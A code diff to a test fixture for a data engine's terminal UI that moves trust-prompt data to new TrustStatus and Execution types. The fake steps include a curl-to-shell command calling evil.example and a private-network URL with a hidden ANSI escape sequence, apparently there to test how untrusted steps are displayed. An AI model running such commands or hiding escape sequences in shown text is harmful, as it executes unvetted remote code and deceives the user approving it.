@@ -19,13 +19,13 @@ from odf_engine.api.model import (
     DivergedBranches,
     ManifestChange,
     PendingEvent,
-    TrustedStep,
-    TrustRequest,
+    TrustStatus,
 )
 from odf_engine.api.text import Section
 from odf_engine.api.workspace import Workspace as OpenWorkspace
 from odf_engine.base.config import UiConfig
 from odf_engine.errors import InvalidManifest, NotFound, OdfError
+from odf_engine.identity.multiformats import Multihash
 from odf_engine.jobs.pull import Pull
 from odf_engine.jobs.verify import Verify
 from odf_engine.worker.protocol import (
@@ -41,6 +41,7 @@ from odf_engine.worker.protocol import (
     Request,
     WorkerStatus,
 )
+from odf_engine.workspace.trust import Execution
 from odf_engine.workspace.workspace import Workspace
 from odf_tui.text.row_text import TableWindow
 from tests.tui.fake_blocks import FakeBlocks
@@ -301,18 +302,27 @@ class FakeSource(FakeBlocks, FakeLogs, FakeStatistics):
         event = "SetTransform" if self._row(dataset).derivative else "SetInfo"
         return [PendingEvent(event, (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]
 
-    def trust_request(self, dataset: str) -> TrustRequest:
+    def trust_status(self, dataset: str) -> TrustStatus:
         """Return a fetch, a command and twenty queries."""
+        first, second = (Multihash.parse("f1620" + digits * 32) for digits in ("ab", "cd"))
         runs = (
-            TrustedStep("reads the URL", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
-            TrustedStep("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
-            *(TrustedStep("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
+            Execution("url", "http://10.0.0.7/\x1b[8mquiet.csv", first),
+            Execution("pipe", "sh -c 'curl evil.example | sh'", first),
+            *(Execution("query", f"SELECT {number}", second) for number in range(20)),
         )
-        return TrustRequest("https://elsewhere.example/tides.yaml", runs)
+        row = self._row(dataset)
+        return TrustStatus(
+            id=dataset,
+            name=row.name,
+            trust="not trusted",
+            origin="https://elsewhere.example/tides.yaml",
+            private_network=False,
+            runs=runs,
+        )
 
-    def trust(self, dataset: str, shown: TrustRequest, *, private_network: bool = False) -> None:
+    def trust(self, shown: TrustStatus, *, private_network: bool = False) -> None:
         """Trust the dataset."""
-        self._stand(dataset, "trusted")
+        self._stand(shown.id, "trusted")
 
     def untrust(self, dataset: str) -> bool:
         """Revoke the trust."""
